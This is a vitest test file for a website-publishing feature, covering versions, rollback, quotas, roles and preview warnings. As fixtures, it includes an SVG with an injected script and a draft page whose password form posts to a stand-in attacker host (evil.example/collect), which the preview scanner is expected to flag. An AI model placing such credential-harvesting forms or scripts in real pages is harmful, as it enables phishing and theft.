import { env, evictDurableObject, runDurableObjectAlarm, runInDurableObject } from "cloudflare:test";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { AuditEntry } from "../../shared/api/audit.ts";
import type { StorageView } from "../../shared/api/files.ts";
import type { PreviewView, SiteDetail, SiteView } from "../../shared/api/sites.ts";
import { newPerson, problemOf, replaced } from "../testing/person.ts";
import { finishedWorkflow, type Made, visit } from "../testing/results.ts";

type Account = Awaited<ReturnType<typeof newPerson>>;
let owner: Account;
let collaborator: Account;
let viewer: Account;
let stranger: Account;
let made: Made;

const page = (title: string, body = "") =>
  `<!doctype html><html lang="ar" dir="rtl"><head><title>${title}</title><link rel="stylesheet" href="style.css"></head><body><h1>${title}</h1>${body}</body></html>`;

beforeAll(async () => {
  owner = await newPerson();
  collaborator = await newPerson();
  viewer = await newPerson();
  stranger = await newPerson();
  const projectId = await owner.project();
  for (const [person, role] of [
    [collaborator, "collaborator"],
    [viewer, "viewer"],
  ] as const)
    await owner.json("POST", `/api/projects/${projectId}/members`, { email: person.email, role });
  made = await finishedWorkflow(owner, projectId);
  await made.put({
    "site/index.html": page("عيادة النور"),
    "site/style.css": "h1 { color: teal }",
    "site/en/index.html": page("Noor Clinic"),
    "site/img/logo.svg": "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    "site/data.unknown": "?",
    "site/مواعيد.html": page("المواعيد"),
    "customers.csv": "name,phone\nMona,123\n",
  });
  await made.put({ "log.txt": "what ran" }, "log");
});
afterAll(() => {
  replaced.env = {};
});

const publish = (person: Account, body: object = { folder: "site" }, key?: string) =>
  person.send("POST", `/api/workflows/${made.workflowId}/publish`, body, key ? { "idempotency-key": key } : {});
const publishOk = async (body?: object, key?: string): Promise<SiteView> => {
  const answer = await publish(owner, body, key);
  expect(answer.status, await answer.clone().text()).toBe(200);
  return answer.json();
};

describe("FR-9.5: a folder of results at an address of its own", () => {
  test("is live with every file, and nothing else of the project is", async () => {
    const site = await publishOk();
    expect(site).toMatchObject({ state: "live", version: 1, files: 6, folder: "site", title: "Noor Clinic" });
    expect(site.url).toMatch(/^http:\/\/[0-9a-z]{20}\.sites\.localhost:8787\/$/);
    const first = await visit(site.url);
    expect(first.status).toBe(200);
    expect(first.headers.get("content-type")).toBe("text/html; charset=utf-8");
    expect(await first.text()).toContain("<h1>عيادة النور</h1>");
    const style = await visit(`${site.url}style.css`);
    expect(style.headers.get("content-type")).toBe("text/css; charset=utf-8");
    expect(await style.text()).toBe("h1 { color: teal }");
    expect((await visit(`${site.url}customers.csv`)).status).toBe(404);
    expect((await visit(`${site.url}log.txt`)).status).toBe(404);
    const arabic = await visit(`${site.url}${encodeURIComponent("مواعيد.html")}`);
    expect(await arabic.text()).toContain("المواعيد");
  });

  test("shows a folder's own first page, and leads to it from the address without a slash", async () => {
    const { url } = await publishOk();
    expect(await (await visit(`${url}en/`)).text()).toContain("Noor Clinic");
    const without = await visit(`${url}en?x=1`);
    expect([without.status, without.headers.get("location")]).toEqual([308, "/en/?x=1"]);
  });

  test("answers a browser that has it with 304, HEAD without a body, and a part of a file", async () => {
    const { url } = await publishOk();
    const first = await visit(`${url}style.css`);
    const tag = first.headers.get("etag") ?? "";
    const again = await visit(`${url}style.css`, { headers: { "if-none-match": `W/${tag}` } });
    expect([again.status, await again.text()]).toEqual([304, ""]);
    const head = await visit(`${url}style.css`, { method: "HEAD" });
    expect([head.status, head.headers.get("content-length"), await head.text()]).toEqual([200, "18", ""]);
    const part = await visit(`${url}style.css`, { headers: { range: "bytes=0-1" } });
    expect([part.status, part.headers.get("content-range"), await part.text()]).toEqual([206, "bytes 0-1/18", "h1"]);
    const beyond = await visit(`${url}style.css`, { headers: { range: "bytes=99-" } });
    expect([beyond.status, beyond.headers.get("content-range")]).toEqual([416, "bytes */18"]);
  });

  test("a file whose type is not known is a download; nothing is sniffed", async () => {
    const { url } = await publishOk();
    const answer = await visit(`${url}data.unknown`);
    expect(answer.headers.get("content-type")).toBe("application/octet-stream");
    expect(answer.headers.get("content-disposition")).toBe("attachment");
    expect(answer.headers.get("x-content-type-options")).toBe("nosniff");
  });
});

describe("versions", () => {
  test("the same content is the same version; other content is the next under the same address", async () => {
    const first = await publishOk();
    expect((await publishOk({ folder: "/site/", title: "Clinic" })).version).toBe(first.version);
    await made.put({ "site/index.html": page("Second") });
    const second = await publishOk();
    expect([second.id, second.version]).toEqual([first.id, first.version + 1]);
    expect(await (await visit(first.url)).text()).toContain("Second");
  });

  test("an Idempotency-Key sent again publishes nothing more, also when its answer was lost", async () => {
    await made.put({ "site/index.html": page("Keyed") });
    const one = await publishOk({ folder: "site" }, "key-1");
    const two = await publishOk({ folder: "site" }, "key-1");
    expect(two.version).toBe(one.version);
    await env.DB.prepare("DELETE FROM idempotency_keys").run();
    await made.put({ "site/index.html": page("Changed after the key was used") });
    expect((await publishOk({ folder: "site" }, "key-1")).version).toBe(one.version);
    expect(await (await visit(one.url)).text()).toContain("Keyed");
  });

  test("FR-12: a collaborator rolls back, takes down and puts back; everybody sees it at once", async () => {
    const { id, url } = await publishOk();
    const change = (path: string, body: object = {}) =>
      collaborator.json<SiteDetail>("POST", `/api/sites/${id}${path}`, body);
    const back = await change("/rollback", { version: 1 });
    expect(back).toMatchObject({ version: 1, state: "live" });
    expect(back.versions.filter((one) => one.live).map((one) => one.version)).toEqual([1]);
    expect(await (await visit(url)).text()).toContain("عيادة النور");
    expect(await change("/unpublish")).toMatchObject({ state: "unpublished" });
    const down = await visit(url);
    expect(down.status).toBe(410);
    const said = await down.text();
    expect(said).toContain("taken down");
    expect(said).toContain("أُزيلت");
    expect(said).not.toContain("Noor");
    expect(await change("/publish")).toMatchObject({ state: "live", version: 1 });
    expect((await visit(url)).status).toBe(200);
    const { history } = await viewer.json<SiteDetail>("GET", `/api/sites/${id}`);
    expect(history.slice(0, 3).map((one) => [one.action, one.by.id])).toEqual([
      ["put_back", collaborator.userId],
      ["unpublished", collaborator.userId],
      ["rolled_back", collaborator.userId],
    ]);
    expect(await problemOf(await collaborator.post(`/api/sites/${id}/rollback`, { version: 99 }))).toMatchObject({
      code: "not_found",
    });
  });

  test("FR-12.5: each change is one line of the audit trail", async () => {
    const { items } = await owner.json<{ items: AuditEntry[] }>(
      "GET",
      `/api/projects/${made.projectId}/audit?limit=100`,
    );
    const lines = items.filter((one) => one.source === "publishing").reverse();
    expect(lines.map((one) => one.eventType).slice(-3)).toEqual([
      "site.rolled_back",
      "site.unpublished",
      "site.put_back",
    ]);
    expect(lines.map((one) => one.seq)).toEqual(lines.map((_, index) => index + 1));
  });

  test("a directory that was away is told later by the library itself", async () => {
    const { id, url } = await publishOk();
    await env.DB.exec("ALTER TABLE sites RENAME TO sites_away");
    const library = env.LIBRARY.get(env.LIBRARY.idFromName(made.projectId));
    const told = library.unpublishSite(id, { kind: "user", id: owner.userId }).then(
      () => true,
      () => false,
    );
    expect(await told).toBe(false);
    await env.DB.exec("ALTER TABLE sites_away RENAME TO sites");
    // In another life of the object, as after a crash: its alarm is there.
    await evictDurableObject(library);
    expect(await runDurableObjectAlarm(library)).toBe(true);
    expect((await visit(url)).status).toBe(410);
    await owner.json("POST", `/api/sites/${id}/publish`, {});
  });
});

describe("how much", () => {
  const inLibrary = <T>(work: (sql: SqlStorage) => T) =>
    runInDurableObject(env.LIBRARY.get(env.LIBRARY.idFromName(made.projectId)), (_, { storage }) => work(storage.sql));
  const stored = () => owner.json<StorageView>("GET", `/api/projects/${made.projectId}/storage`);

  test("versions of sites count as storage, and where they do not fit nothing is published", async () => {
    await made.put({ "shop/index.html": page("Shop") });
    const before = (await stored()).sitesSize;
    const site = await publishOk({ folder: "shop" });
    expect((await stored()).sitesSize - before).toBe(site.size);
    const { quota } = await stored();
    await inLibrary((sql) => sql.exec("UPDATE publishing_bytes SET bytes = bytes + ?", quota));
    await made.put({ "shop/index.html": page("More") });
    expect(await problemOf(await publish(owner, { folder: "shop" }))).toMatchObject({ code: "storage_full" });
    expect(await (await visit(site.url)).text()).toContain("Shop");
    await inLibrary((sql) => sql.exec("UPDATE publishing_bytes SET bytes = bytes - ?", quota));
    expect(await publishOk({ folder: "shop" })).toMatchObject({ version: site.version + 1 });
  });

  test("the fifty-first version has the oldest forgotten, its bytes too", async () => {
    const site = await publishOk({ folder: "shop" });
    const first = await env.BUCKET.list({ prefix: `sites/${site.id}/1/` });
    expect(first.objects).toHaveLength(1);
    await inLibrary((sql) => {
      for (let version = site.version + 1; version <= 50; version++)
        sql.exec(
          "INSERT INTO site_versions SELECT site, ?, title, entry, ?, '[]', 0, 0, by_kind, by_id, workflow_id, NULL, at FROM site_versions WHERE site = ? AND version = 1",
          version,
          `sha${version}`,
          site.id,
        );
    });
    await made.put({ "shop/index.html": page("The fifty-first") });
    expect(await publishOk({ folder: "shop" })).toMatchObject({ version: 51 });
    const { versions } = await owner.json<SiteDetail>("GET", `/api/sites/${site.id}`);
    expect(versions).toHaveLength(50);
    await runDurableObjectAlarm(env.LIBRARY.get(env.LIBRARY.idFromName(made.projectId)));
    expect((await env.BUCKET.list({ prefix: `sites/${site.id}/1/` })).objects).toEqual([]);
    const all = await inLibrary((sql) =>
      sql.exec<{ size: number }>("SELECT SUM(size) AS size FROM site_versions").one(),
    );
    expect((await stored()).sitesSize).toBe(all.size);
  });

  test("fifty sites are live at once; the next is refused in words, however it would go live", async () => {
    const site = await publishOk({ folder: "shop" });
    const others = await inLibrary((sql) => {
      const { live } = sql.exec<{ live: number }>("SELECT COUNT(*) AS live FROM sites WHERE state = 'live'").one();
      for (let at = live; at < 50; at++)
        sql.exec(
          "INSERT INTO sites VALUES (?, ?, '', ?, 'x', 'live', 1, 1, 1, 'x', 'x')",
          `full${at}`,
          `wf_full${at}`,
          "wf_x",
        );
      return 50 - live;
    });
    expect(others).toBeGreaterThan(0);
    // One that is live can go on changing.
    expect(await publishOk({ folder: "shop", title: "Shop" })).toMatchObject({ id: site.id });
    await made.put({ "late/index.html": page("Late") });
    const refused = await problemOf(await publish(owner, { folder: "late" }));
    expect(refused).toMatchObject({
      status: 409,
      code: "sites_full",
      body: { detail: "50 sites can be live at once." },
    });
    await owner.json("POST", `/api/sites/${site.id}/unpublish`, {});
    expect(await publishOk({ folder: "late" })).toMatchObject({ state: "live", version: 1 });
    for (const [path, body] of [
      ["/publish", {}],
      ["/rollback", { version: site.version }],
    ] as const)
      expect(await problemOf(await owner.post(`/api/sites/${site.id}${path}`, body))).toMatchObject({
        code: "sites_full",
      });
    expect(await problemOf(await publish(owner, { folder: "shop" }))).toMatchObject({ code: "sites_full" });
    expect((await visit(site.url)).status).toBe(410);
    await inLibrary((sql) => sql.exec("DELETE FROM sites WHERE title = 'x'"));
  });

  test("of two who publish one content at once the second's bytes are not kept", async () => {
    await made.put({ "twice/index.html": page("Twice") });
    const [one, two] = await Promise.all([publishOk({ folder: "twice" }), publishOk({ folder: "twice" })]);
    expect([one.id, one.version]).toEqual([two?.id, 1]);
    const library = env.LIBRARY.get(env.LIBRARY.idFromName(made.projectId));
    await runDurableObjectAlarm(library);
    expect((await env.BUCKET.list({ prefix: `sites/${one.id}/` })).objects).toHaveLength(1);
    expect((await visit(one.url)).status).toBe(200);
  });
});

describe("who may", () => {
  test("viewers look and publish nothing; for strangers there is no site", async () => {
    const { id } = await publishOk();
    expect((await viewer.get(`/api/sites/${id}`)).status).toBe(200);
    expect((await viewer.get(`/api/projects/${made.projectId}/sites`)).status).toBe(200);
    for (const path of ["/unpublish", "/publish"])
      expect(await problemOf(await viewer.post(`/api/sites/${id}${path}`))).toMatchObject({ code: "role_forbidden" });
    expect(await problemOf(await publish(viewer))).toMatchObject({ code: "role_forbidden" });
    expect(await problemOf(await publish(stranger))).toMatchObject({ code: "not_found" });
    for (const path of ["", "/rollback", "/unpublish", "/publish"]) {
      const answer = await stranger.send(
        path === "" ? "GET" : "POST",
        `/api/sites/${id}${path}`,
        path === "" ? undefined : { version: 1 },
      );
      expect(await problemOf(answer)).toMatchObject({ status: 404, code: "not_found" });
    }
    expect(await problemOf(await owner.get("/api/sites/zzzzzzzzzzzzzzzzzzzz"))).toMatchObject({ code: "not_found" });
  });

  test.each([
    [{ folder: "nowhere" }, "no results"],
    [{ folder: "site", entry: "home.html" }, "home.html"],
    [{ folder: "site", entry: "style.css" }, "HTML"],
    [{ folder: "../site" }, "no results"],
  ])("%o is refused in words", async (body, words) => {
    const { code, body: said } = await problemOf(await publish(owner, body));
    expect([code, said.detail]).toEqual(["site_not_publishable", expect.stringContaining(words)]);
  });

  test("work that goes on is not published by hand", async () => {
    made.show({ status: "building" });
    expect(await problemOf(await publish(owner))).toMatchObject({ code: "workflow_not_finished" });
    made.show({ status: "completed" });
  });
});

describe("a look before publishing", () => {
  test("is a page under an address of its own, for minutes, with what to know of it", async () => {
    await made.put({
      "draft/index.html": page(
        "Draft",
        `<form action="https://evil.example/collect"><input type="password"></form>
         <script src="//cdn.example/x.js"></script><a href="missing.html">more</a>`,
      ),
      "draft/style.css": "",
    });
    const preview = await viewer.json<PreviewView>("POST", `/api/workflows/${made.workflowId}/preview`, {
      folder: "draft",
    });
    expect(preview.notes.map((note) => [note.code, note.what])).toEqual([
      ["form_elsewhere", "https://evil.example/collect"],
      ["asks_secrets", ""],
      ["outside_resource", "//cdn.example/x.js"],
      ["missing_file", "missing.html"],
    ]);
    expect(preview.replaces).toBeNull();
    const { url } = await publishOk();
    const next = await viewer.json<PreviewView>("POST", `/api/workflows/${made.workflowId}/preview`, {
      folder: "site",
    });
    expect(next.replaces).toBe(url);
    const shown = await visit(preview.url);
    expect(await shown.text()).toContain("Draft");
    expect(shown.headers.get("cache-control")).toBe("private, no-store");
    expect(shown.headers.get("x-robots-tag")).toContain("noindex");
    const [id = ""] = new URL(preview.url).hostname.split(".");
    expect(await problemOf(await owner.get(`/api/sites/${id}`))).toMatchObject({ code: "not_found" });
    await env.DB.prepare("UPDATE sites SET expires_at = 1, revision = 2 WHERE id = ?").bind(id).run();
    await expect.poll(async () => (await visit(preview.url)).status, { timeout: 5_000 }).toBe(404);
    expect(await problemOf(await stranger.post(`/api/workflows/${made.workflowId}/preview`))).toMatchObject({
      code: "not_found",
    });
  });
});
